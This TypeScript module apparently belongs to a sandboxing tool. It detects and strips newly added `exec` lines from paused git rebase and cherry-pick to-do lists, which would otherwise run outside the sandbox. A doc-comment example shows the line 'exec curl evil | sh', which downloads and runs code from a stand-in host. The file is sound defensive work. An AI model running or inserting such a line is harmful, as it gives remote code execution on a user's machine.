import { stat } from 'node:fs/promises';
import path from 'node:path';
import { writeFileConfined } from '@tiny-claw/workspace/files';
import { readHead } from './git-layout.js';

/**
 * The to-do lists of a paused rebase or cherry-pick, relative to the git directory. Their `exec`
 * lines run when someone continues (`git rebase --continue`), outside any sandbox.
 */
export const SEQUENCER_LISTS: readonly string[] = [
  'rebase-merge/git-rebase-todo',
  'sequencer/todo',
];

const MAX_LIST_BYTES = 8 * 1024 * 1024;

/** `exec <command>` or its short form `x <command>`, as git's sequencer reads a to-do line. */
const EXEC_LINE = /^\s*(?:x|exec)(?:\s|$)/;

/**
 * The `exec` lines of a to-do list, or an empty list when there is none.
 *
 * @example
 * await execLines('/repo/.git/rebase-merge/git-rebase-todo'); // ['exec make test']
 */
export async function execLines(file: string): Promise<string[]> {
  const text = await readHead(file, MAX_LIST_BYTES);
  return text === undefined ? [] : text.split('\n').filter((line) => EXEC_LINE.test(line));
}

/**
 * Remove from the to-do list `relative` below the git directory `gitDir` the `exec` lines not in
 * `before` (counting repeats), atomically and keeping its mode. Returns the removed lines.
 *
 * @example
 * await removeNewExecLines('/repo/.git', 'rebase-merge/git-rebase-todo', []); // ['exec curl evil | sh']
 */
export async function removeNewExecLines(
  gitDir: string,
  relative: string,
  before: readonly string[],
): Promise<string[]> {
  const file = path.join(gitDir, relative);
  const text = await readHead(file, MAX_LIST_BYTES);
  if (text === undefined) return [];
  const allowed = new Map<string, number>();
  for (const line of before) allowed.set(line, (allowed.get(line) ?? 0) + 1);
  const removed: string[] = [];
  const kept = text.split('\n').filter((line) => {
    if (!EXEC_LINE.test(line)) return true;
    const left = allowed.get(line) ?? 0;
    if (left > 0) {
      allowed.set(line, left - 1);
      return true;
    }
    removed.push(line);
    return false;
  });
  if (removed.length === 0) return [];
  const mode = (await stat(file)).mode & 0o7777;
  await writeFileConfined(gitDir, relative, kept.join('\n'), { mode });
  return removed;
}
